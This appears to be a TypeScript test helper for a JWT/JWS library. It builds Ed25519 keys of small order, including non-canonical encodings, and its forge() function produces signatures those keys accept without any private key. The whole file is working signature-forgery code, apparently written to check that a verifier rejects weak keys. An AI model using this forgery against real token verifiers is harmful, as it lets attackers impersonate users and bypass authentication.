/** An attacker without a private key, who forges signatures for Ed25519 keys of small order. */
import { createHash } from 'node:crypto'
import { encode } from './signer.ts'

const P = 2n ** 255n - 19n
const D = 37095705934669439343138083508754565189542113879843219016388785533085940283555n
const mod = (value: bigint) => ((value % P) + P) % P
function power(base: bigint, exponent: bigint): bigint {
  let result = 1n
  for (let square = mod(base), rest = exponent; rest > 0n; rest >>= 1n) {
    if (rest & 1n) result = mod(result * square)
    square = mod(square * square)
  }
  return result
}
const inverse = (value: bigint) => power(value, P - 2n)

export interface Point {
  readonly x: bigint
  readonly y: bigint
}
/** Addition on the curve, as RFC 8032 section 5.1.4 defines it. */
function add(a: Point, b: Point): Point {
  const t = D * a.x * b.x * a.y * b.y
  return {
    x: mod((a.x * b.y + a.y * b.x) * inverse(mod(1n + t))),
    y: mod((a.y * b.y + a.x * b.x) * inverse(mod(1n - t))),
  }
}

/** 32 bytes, little-endian, the sign of x in the highest bit (RFC 8032 section 5.1.2). */
export function bytesOf(y: bigint, sign: 0 | 1): Uint8Array {
  const hex = (y | (BigInt(sign) << 255n)).toString(16).padStart(64, '0')
  return new Uint8Array(Buffer.from(hex, 'hex').reverse())
}

const ROOT_OF_MINUS_ONE = power(2n, (P - 1n) / 4n)
/** A point of order 8: x² = -y², so d y⁴ + 2 y² = 1; its double has order 4. */
const generator = ((): Point => {
  const roots = [1n, -1n].map((sign) => {
    const discriminant = mod(1n + D)
    const root = power(discriminant, (P + 3n) / 8n)
    const square = mod(root * root) === discriminant ? root : mod(root * ROOT_OF_MINUS_ONE)
    return mod((sign * square - 1n) * inverse(D))
  })
  for (const yy of roots) {
    const candidate = power(yy, (P + 3n) / 8n)
    const y = [candidate, mod(candidate * ROOT_OF_MINUS_ONE)].find((one) => mod(one * one) === yy)
    if (y !== undefined) return { x: mod(y * ROOT_OF_MINUS_ONE), y }
  }
  throw new Error('found no point of order 8')
})()

/** The eight points with an order that divides 8: at index n, n times a point of order 8. */
export const SMALL_ORDER_POINTS: readonly Point[] = Array.from({ length: 7 }).reduce<Point[]>(
  (points) => [...points, add(points.at(-1) as Point, generator)],
  [{ x: 0n, y: 1n }],
)

const encoded = SMALL_ORDER_POINTS.map(({ x, y }) => bytesOf(y, Number(x & 1n) as 0 | 1))

/** Every encoding that a lenient decoder accepts as one of the eight points, as `x` of a JWK. */
export const SMALL_ORDER_KEYS: readonly string[] = [
  ...new Set(
    [...SMALL_ORDER_POINTS.map(({ y }) => y), P, P + 1n].flatMap((y) =>
      ([0, 1] as const).map((sign) => Buffer.from(bytesOf(y, sign)).toString('base64url')),
    ),
  ),
]

export const weakJwk = (x: string, kid = 'weak') => ({ kty: 'OKP', crv: 'Ed25519', x, kid })

/**
 * Returns the multiple of the generator that a lenient decoder reads: y modulo the prime, then the
 * sign of x.
 */
function multipleOf(key: Uint8Array): number {
  const bigEndian = Buffer.from(key).reverse()
  const sign = BigInt((bigEndian[0] ?? 0) >> 7)
  bigEndian[0] = (bigEndian[0] ?? 0) & 0x7f
  const y = mod(BigInt(`0x${bigEndian.toString('hex')}`))
  return SMALL_ORDER_POINTS.findIndex(
    (point) => point.y === y && (point.x === 0n || (point.x & 1n) === sign),
  )
}

/** The order of the base point. */
const L = 2n ** 252n + 27742317777372353535851937790883648493n

/**
 * Creates a JWS that is valid under a key of small order, without a private key. A verifier checks
 * [S]B = R + [k]A with k = SHA-512(R, A, M) mod L. S is 0, R is one of the eight points, and the
 * content varies until R = -[k]A.
 */
export function forge(x: string, header: object, claims: (attempt: number) => object): string {
  const key = Buffer.from(x, 'base64url')
  const multiple = BigInt(multipleOf(key))
  for (let attempt = 0; attempt < 1_000; attempt++) {
    const input = `${encode(header)}.${encode(claims(attempt))}`
    for (const [index, r] of encoded.entries()) {
      const digest = createHash('sha512').update(r).update(key).update(input).digest()
      const k = BigInt(`0x${digest.reverse().toString('hex')}`) % L
      if ((k * multiple + BigInt(index)) % 8n === 0n) {
        return `${input}.${encode(new Uint8Array([...r, ...new Uint8Array(32)]))}`
      }
    }
  }
  throw new Error(`found no forgery under ${x}`)
}
